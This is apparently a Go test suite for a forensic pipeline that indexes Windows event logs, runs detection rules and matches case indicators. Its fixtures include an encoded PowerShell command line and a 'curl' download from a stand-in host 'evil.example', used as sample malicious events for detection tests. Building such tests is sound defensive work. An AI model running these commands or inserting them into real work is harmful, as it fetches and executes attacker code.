package pipeline

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"custodian/config"
	"custodian/core"
	"custodian/storage"

	"github.com/google/uuid"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap"
)

const sampleEvent = `{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Security-Auditing"}},"Channel":"Security","EventRecordID":101,"TimeCreated":{"#attributes":{"SystemTime":"2026-01-05T10:00:00Z"}}},"EventData":{"IpAddress":"10.1.2.3","TargetUserName":"alice"}}}`

const secondEvent = `{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon"}},"Channel":"Sysmon","EventRecordID":102,"TimeCreated":{"#attributes":{"SystemTime":"2026-01-05T10:00:01Z"}}},"EventData":{"CommandLine":"powershell -enc SQBFAFgA","Image":"C:\\Windows\\System32\\powershell.exe"}}}`

type testEnv struct {
	p          *Pipeline
	files      *storage.SQLiteCaseFileStorage
	violations *storage.SQLiteViolationStorage
	iocs       *storage.SQLiteIOCStorage
	events     *mockEventStore
	cfg        *config.Config
	evidence   string
}

func newTestEnv(t *testing.T) *testEnv {
	t.Helper()
	logger := zap.NewNop().Sugar()
	db, err := storage.NewSQLite(filepath.Join(t.TempDir(), "test.db"), logger)
	require.NoError(t, err)
	t.Cleanup(func() { _ = db.Close() })

	cfg := &config.Config{}
	cfg.Pipeline.WorkerCount = 1
	cfg.Pipeline.MaxRetries = 3
	cfg.Pipeline.SoftTimeout = 30 * time.Second
	cfg.Pipeline.HardTimeout = 45 * time.Second
	cfg.Pipeline.LeaseTimeout = 60 * time.Second
	cfg.Pipeline.SubprocessRateLimit = 100
	cfg.Pipeline.DedupCacheSize = 1000
	cfg.Pipeline.ConverterCommand = []string{"cat"}
	cfg.Pipeline.RuleEngineCommand = []string{"true"}
	cfg.ClickHouse.BatchSize = 500
	cfg.DataPaths.RulesDir = t.TempDir()
	cfg.DataPaths.FieldMappingPath = filepath.Join(t.TempDir(), "field_mappings.yaml")

	env := &testEnv{
		files:      storage.NewSQLiteCaseFileStorage(db, logger),
		violations: storage.NewSQLiteViolationStorage(db, logger),
		iocs:       storage.NewSQLiteIOCStorage(db, logger),
		events:     newMockEventStore(),
		cfg:        cfg,
		evidence:   t.TempDir(),
	}
	env.p = New(env.files, env.events, env.violations, env.iocs, cfg, nil, logger)
	return env
}

// admitFile stores an artifact under the evidence dir and creates its queued
// status record, mirroring what the intake gate does.
func (env *testEnv) admitFile(t *testing.T, caseID, content string) *core.CaseFile {
	t.Helper()
	sum := sha256.Sum256([]byte(content))
	hash := hex.EncodeToString(sum[:])

	dir := filepath.Join(env.evidence, caseID)
	require.NoError(t, os.MkdirAll(dir, 0o755))
	path := filepath.Join(dir, hash+".evtx")
	require.NoError(t, os.WriteFile(path, []byte(content), 0o644))

	file := &core.CaseFile{
		ID:          uuid.New().String(),
		CaseID:      caseID,
		Filename:    "export.evtx",
		ContentHash: hash,
		Size:        int64(len(content)),
		Status:      core.StatusQueued,
		Origin:      "interactive",
		StoragePath: path,
	}
	require.NoError(t, env.files.CreateFile(context.Background(), file))
	return file
}

// markIndexed walks the file to the indexed state without running the stage.
func (env *testEnv) markIndexed(t *testing.T, fileID string) {
	t.Helper()
	ctx := context.Background()
	require.NoError(t, env.files.TransitionStatus(ctx, fileID,
		[]core.FileStatus{core.StatusQueued}, core.StatusIndexing))
	require.NoError(t, env.files.TransitionStatus(ctx, fileID,
		[]core.FileStatus{core.StatusIndexing}, core.StatusIndexed))
}

func writeScript(t *testing.T, body string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "tool.sh")
	require.NoError(t, os.WriteFile(path, []byte("#!/bin/sh\n"+body+"\n"), 0o755))
	return path
}

func TestRunIndex_StreamsConverterOutput(t *testing.T) {
	env := newTestEnv(t)
	ctx := context.Background()
	file := env.admitFile(t, "case-7", sampleEvent+"\n"+secondEvent+"\n")

	require.NoError(t, env.p.RunIndex(ctx, file.ID))

	got, err := env.files.GetFile(ctx, file.ID)
	require.NoError(t, err)
	assert.Equal(t, core.StatusIndexed, got.Status)
	assert.EqualValues(t, 2, got.EventCount)

	count, err := env.events.CountForFile(ctx, "case-7", file.ID)
	require.NoError(t, err)
	assert.EqualValues(t, 2, count)

	// Metadata columns were promoted out of the record.
	hits, err := env.events.SearchFieldEquals(ctx, "case-7", file.ID,
		"Event.EventData.IpAddress", "10.1.2.3")
	require.NoError(t, err)
	require.Len(t, hits, 1)
	ev := env.events.get("case-7", file.ID, hits[0].EventID)
	require.NotNil(t, ev)
	assert.Equal(t, "Microsoft-Windows-Security-Auditing", ev.Provider)
	assert.Equal(t, "Security", ev.Channel)
	assert.EqualValues(t, 101, ev.RecordID)
	assert.Equal(t, 2026, ev.Timestamp.Year())

	// The corpus was published with event references injected.
	corpus, err := os.ReadFile(file.StoragePath + corpusSuffix)
	require.NoError(t, err)
	lines := strings.Split(strings.TrimSpace(string(corpus)), "\n")
	require.Len(t, lines, 2)
	for _, line := range lines {
		assert.Contains(t, line, `"event_ref"`)
	}
}

func TestRunIndex_ReindexReproducesIdentifiers(t *testing.T) {
	env := newTestEnv(t)
	ctx := context.Background()
	file := env.admitFile(t, "case-7", sampleEvent+"\n")

	require.NoError(t, env.p.RunIndex(ctx, file.ID))
	first, err := env.events.SearchFieldEquals(ctx, "case-7", file.ID,
		"Event.EventData.IpAddress", "10.1.2.3")
	require.NoError(t, err)
	require.Len(t, first, 1)

	// Re-run from the settled state: same bytes, same identifiers, no
	// duplicate documents.
	require.NoError(t, env.p.RunIndex(ctx, file.ID))
	second, err := env.events.SearchFieldEquals(ctx, "case-7", file.ID,
		"Event.EventData.IpAddress", "10.1.2.3")
	require.NoError(t, err)
	require.Len(t, second, 1)
	assert.Equal(t, first[0].EventID, second[0].EventID)

	count, err := env.events.CountForFile(ctx, "case-7", file.ID)
	require.NoError(t, err)
	assert.EqualValues(t, 1, count)
}

func TestRunIndex_ClearsDownstreamResults(t *testing.T) {
	env := newTestEnv(t)
	ctx := context.Background()
	file := env.admitFile(t, "case-7", sampleEvent+"\n")
	env.markIndexed(t, file.ID)

	// Results from an earlier run, now invalidated by the reindex.
	require.NoError(t, env.violations.InsertSet(ctx, []core.Violation{{
		CaseID: "case-7", FileID: file.ID, EventID: "ev-old", RuleID: "stale",
	}}))
	require.NoError(t, env.iocs.InsertMatchSet(ctx, []core.IOCMatch{{
		CaseID: "case-7", FileID: file.ID, EventID: "ev-old",
		IOCID: "ioc-1", IOCType: core.IOCTypeIP, IOCValue: "10.0.0.1",
		MatchedField: "Event.EventData.IpAddress",
	}}))
	require.NoError(t, env.files.SetViolationCount(ctx, file.ID, 1))
	require.NoError(t, env.files.SetIOCMatchCount(ctx, file.ID, 1))

	require.NoError(t, env.p.RunIndex(ctx, file.ID))

	violationCount, err := env.violations.CountForFile(ctx, file.ID)
	require.NoError(t, err)
	assert.Zero(t, violationCount)
	matchCount, err := env.iocs.CountMatchesForFile(ctx, file.ID)
	require.NoError(t, err)
	assert.Zero(t, matchCount)

	got, err := env.files.GetFile(ctx, file.ID)
	require.NoError(t, err)
	assert.Zero(t, got.ViolationCount)
	assert.Zero(t, got.IOCMatchCount)
}

func TestRunIndex_ConverterFailureRollsBack(t *testing.T) {
	env := newTestEnv(t)
	ctx := context.Background()
	file := env.admitFile(t, "case-7", sampleEvent+"\n"+secondEvent+"\n")

	// Emit one good line, then die.
	env.cfg.Pipeline.ConverterCommand = []string{writeScript(t,
		`head -n 1 "$1"
echo "converter blew up" >&2
exit 2`)}

	err := env.p.RunIndex(ctx, file.ID)
	require.Error(t, err)

	got, lookupErr := env.files.GetFile(ctx, file.ID)
	require.NoError(t, lookupErr)
	assert.Equal(t, core.StatusError, got.Status)
	assert.Contains(t, got.ErrorMessage, "converter blew up")

	// The partial run was rolled back and no corpus was published.
	count, countErr := env.events.CountForFile(ctx, "case-7", file.ID)
	require.NoError(t, countErr)
	assert.Zero(t, count)
	assert.NoFileExists(t, file.StoragePath+corpusSuffix)
}

func TestRunIndex_NotEligibleWhileHeld(t *testing.T) {
	env := newTestEnv(t)
	ctx := context.Background()
	file := env.admitFile(t, "case-7", sampleEvent+"\n")

	// Another worker holds the file.
	require.NoError(t, env.files.TransitionStatus(ctx, file.ID,
		[]core.FileStatus{core.StatusQueued}, core.StatusIndexing))

	err := env.p.RunIndex(ctx, file.ID)
	assert.ErrorIs(t, err, ErrNotEligible)
}

func TestRunIndex_GlobalDedupMergesRepeats(t *testing.T) {
	env := newTestEnv(t)
	env.cfg.Pipeline.GlobalDedup = true
	ctx := context.Background()

	// Three occurrences of the same record, one distinct.
	content := strings.Repeat(sampleEvent+"\n", 3) + secondEvent + "\n"
	file := env.admitFile(t, "case-7", content)

	require.NoError(t, env.p.RunIndex(ctx, file.ID))

	got, err := env.files.GetFile(ctx, file.ID)
	require.NoError(t, err)
	assert.EqualValues(t, 2, got.EventCount)

	hits, err := env.events.SearchFieldEquals(ctx, "case-7", file.ID,
		"Event.EventData.IpAddress", "10.1.2.3")
	require.NoError(t, err)
	require.Len(t, hits, 1)
	merged := env.events.get("case-7", file.ID, hits[0].EventID)
	require.NotNil(t, merged)
	assert.EqualValues(t, 3, merged.RepeatCount)
}

func TestRunScan_StoresFindings(t *testing.T) {
	env := newTestEnv(t)
	ctx := context.Background()
	file := env.admitFile(t, "case-7", sampleEvent+"\n")
	env.markIndexed(t, file.ID)

	// The stage consumes the persisted corpus, not the raw artifact.
	require.NoError(t, os.WriteFile(file.StoragePath+corpusSuffix,
		[]byte(sampleEvent+"\n"), 0o644))

	findings := filepath.Join(t.TempDir(), "findings.jsonl")
	require.NoError(t, os.WriteFile(findings, []byte(
		`{"rule_id":"win_susp_logon","rule_title":"Suspicious Logon","severity":"high","event_ref":"ev-1"}
{"rule_id":"win_enc_powershell","rule_title":"Encoded PowerShell","severity":"critical","event_ref":"ev-2"}
`), 0o644))
	env.cfg.Pipeline.RuleEngineCommand = []string{writeScript(t, fmt.Sprintf("cat %q", findings))}

	require.NoError(t, env.p.RunScan(ctx, file.ID))

	got, err := env.files.GetFile(ctx, file.ID)
	require.NoError(t, err)
	assert.Equal(t, core.StatusScanned, got.Status)
	assert.EqualValues(t, 2, got.ViolationCount)

	violations, err := env.violations.ListForFile(ctx, file.ID)
	require.NoError(t, err)
	require.Len(t, violations, 2)
	assert.Equal(t, "case-7", violations[0].CaseID)
	assert.NotEmpty(t, violations[0].ID)
}

func TestRunScan_EngineFailureLeavesZeroViolations(t *testing.T) {
	env := newTestEnv(t)
	ctx := context.Background()
	file := env.admitFile(t, "case-7", sampleEvent+"\n")
	env.markIndexed(t, file.ID)
	require.NoError(t, os.WriteFile(file.StoragePath+corpusSuffix,
		[]byte(sampleEvent+"\n"), 0o644))

	// Stale results from an earlier scan.
	require.NoError(t, env.violations.InsertSet(ctx, []core.Violation{{
		CaseID: "case-7", FileID: file.ID, EventID: "ev-old",
		RuleID: "stale_rule", Severity: "low",
	}}))

	env.cfg.Pipeline.RuleEngineCommand = []string{writeScript(t,
		`echo "rules directory unreadable" >&2
exit 1`)}

	err := env.p.RunScan(ctx, file.ID)
	require.Error(t, err)

	got, lookupErr := env.files.GetFile(ctx, file.ID)
	require.NoError(t, lookupErr)
	assert.Equal(t, core.StatusError, got.Status)
	assert.Contains(t, got.ErrorMessage, "rules directory unreadable")

	// The clear committed before the engine ran: zero results, not stale.
	count, countErr := env.violations.CountForFile(ctx, file.ID)
	require.NoError(t, countErr)
	assert.Zero(t, count)
}

func TestRunScan_RequiresCorpus(t *testing.T) {
	env := newTestEnv(t)
	ctx := context.Background()
	file := env.admitFile(t, "case-7", sampleEvent+"\n")
	env.markIndexed(t, file.ID)

	err := env.p.RunScan(ctx, file.ID)
	require.Error(t, err)

	got, lookupErr := env.files.GetFile(ctx, file.ID)
	require.NoError(t, lookupErr)
	assert.Equal(t, core.StatusError, got.Status)
}

func TestRunHunt_MatchesCaseIndicators(t *testing.T) {
	env := newTestEnv(t)
	ctx := context.Background()
	file := env.admitFile(t, "case-7", sampleEvent+"\n")
	env.markIndexed(t, file.ID)

	require.NoError(t, env.events.InsertBatch(ctx, []*core.IndexedEvent{
		{
			EventID: "ev-1", CaseID: "case-7", FileID: file.ID,
			Fields:  map[string]interface{}{"Event.EventData.IpAddress": "10.1.2.3"},
			RawData: []byte(sampleEvent),
		},
		{
			EventID: "ev-2", CaseID: "case-7", FileID: file.ID,
			Fields:  map[string]interface{}{"Event.EventData.CommandLine": "curl http://evil.example/payload"},
			RawData: []byte(`{"Event":{"EventData":{"CommandLine":"curl http://evil.example/payload"}}}`),
		},
	}))

	mustCreateIOC := func(ioc *core.IOC) {
		require.NoError(t, env.iocs.CreateIOC(ctx, ioc))
	}
	mustCreateIOC(&core.IOC{CaseID: "case-7", Type: core.IOCTypeIP, Value: "10.1.2.3", Enabled: true})
	// URL indicators have no structured targets; they fall back to raw search.
	mustCreateIOC(&core.IOC{CaseID: "case-7", Type: core.IOCTypeURL, Value: "http://evil.example/payload", Enabled: true})
	// Disabled indicators never match.
	mustCreateIOC(&core.IOC{CaseID: "case-7", Type: core.IOCTypeUsername, Value: "alice", Enabled: false})

	require.NoError(t, env.p.RunHunt(ctx, file.ID))

	got, err := env.files.GetFile(ctx, file.ID)
	require.NoError(t, err)
	assert.Equal(t, core.StatusComplete, got.Status)
	assert.EqualValues(t, 2, got.IOCMatchCount)

	matches, err := env.iocs.ListMatchesForFile(ctx, file.ID)
	require.NoError(t, err)
	require.Len(t, matches, 2)
	fields := map[string]string{}
	for _, m := range matches {
		fields[string(m.IOCType)] = m.MatchedField
	}
	assert.Equal(t, "Event.EventData.IpAddress", fields["ip"])
	assert.Equal(t, "raw_data", fields["url"])
}

func TestRunHunt_OtherCaseIndicatorsIgnored(t *testing.T) {
	env := newTestEnv(t)
	ctx := context.Background()
	file := env.admitFile(t, "case-7", sampleEvent+"\n")
	env.markIndexed(t, file.ID)

	require.NoError(t, env.events.InsertBatch(ctx, []*core.IndexedEvent{{
		EventID: "ev-1", CaseID: "case-7", FileID: file.ID,
		Fields:  map[string]interface{}{"Event.EventData.IpAddress": "10.1.2.3"},
		RawData: []byte(sampleEvent),
	}}))
	require.NoError(t, env.iocs.CreateIOC(ctx, &core.IOC{
		CaseID: "case-8", Type: core.IOCTypeIP, Value: "10.1.2.3", Enabled: true,
	}))

	require.NoError(t, env.p.RunHunt(ctx, file.ID))

	count, err := env.iocs.CountMatchesForFile(ctx, file.ID)
	require.NoError(t, err)
	assert.Zero(t, count)
}

func TestRunFull_WalksWholePipeline(t *testing.T) {
	env := newTestEnv(t)
	ctx := context.Background()
	file := env.admitFile(t, "case-7", sampleEvent+"\n")

	// One finding referencing whatever event the index stage produces; the
	// engine echoes a fixed rule against the first corpus event_ref.
	env.cfg.Pipeline.RuleEngineCommand = []string{writeScript(t,
		`corpus="$5"
ref=$(head -n 1 "$corpus" | sed 's/.*"event_ref":"\([^"]*\)".*/\1/')
echo "{\"rule_id\":\"win_susp_logon\",\"rule_title\":\"Suspicious Logon\",\"severity\":\"high\",\"event_ref\":\"$ref\"}"`)}

	require.NoError(t, env.p.RunFull(ctx, file.ID))

	got, err := env.files.GetFile(ctx, file.ID)
	require.NoError(t, err)
	assert.Equal(t, core.StatusComplete, got.Status)
	assert.EqualValues(t, 1, got.EventCount)
	assert.EqualValues(t, 1, got.ViolationCount)

	violations, err := env.violations.ListForFile(ctx, file.ID)
	require.NoError(t, err)
	require.Len(t, violations, 1)

	// The finding's event reference resolves to a real indexed event.
	ev := env.events.get("case-7", file.ID, violations[0].EventID)
	assert.NotNil(t, ev)
}

func TestDispatch_EnqueuesPerFile(t *testing.T) {
	env := newTestEnv(t)
	ctx := context.Background()
	a := env.admitFile(t, "case-7", sampleEvent+"\n")
	b := env.admitFile(t, "case-7", secondEvent+"\n")
	env.admitFile(t, "case-8", sampleEvent+"\n")

	sink := &captureEnqueuer{}
	enqueued, err := env.p.Dispatch(ctx, sink, core.CaseScope("case-7"), core.StageFull)
	require.NoError(t, err)
	assert.ElementsMatch(t, []string{a.ID, b.ID}, enqueued)
	require.Len(t, sink.tasks, 2)
	for _, task := range sink.tasks {
		assert.Equal(t, core.StageFull, task.Stage)
		assert.NotEmpty(t, task.TaskID)
	}
}

func TestDispatch_ResolvesCaseForFileScope(t *testing.T) {
	env := newTestEnv(t)
	ctx := context.Background()
	a := env.admitFile(t, "case-7", sampleEvent+"\n")
	b := env.admitFile(t, "case-9", secondEvent+"\n")

	// File and global scopes name no case; the queued payloads still carry
	// each file's own case attribution.
	sink := &captureEnqueuer{}
	enqueued, err := env.p.Dispatch(ctx, sink, core.FileScope(a.ID, b.ID), core.StageHunt)
	require.NoError(t, err)
	assert.ElementsMatch(t, []string{a.ID, b.ID}, enqueued)

	byFile := make(map[string]string, len(sink.tasks))
	for _, task := range sink.tasks {
		byFile[task.FileID] = task.CaseID
	}
	assert.Equal(t, "case-7", byFile[a.ID])
	assert.Equal(t, "case-9", byFile[b.ID])
}

func TestDispatch_PerFileIsolation(t *testing.T) {
	env := newTestEnv(t)
	ctx := context.Background()
	a := env.admitFile(t, "case-7", sampleEvent+"\n")
	b := env.admitFile(t, "case-7", secondEvent+"\n")

	sink := &captureEnqueuer{fail: map[string]error{a.ID: fmt.Errorf("queue unavailable")}}
	enqueued, err := env.p.Dispatch(ctx, sink, core.FileScope(a.ID, b.ID), core.StageScan)
	require.Error(t, err)
	assert.Equal(t, []string{b.ID}, enqueued)
}
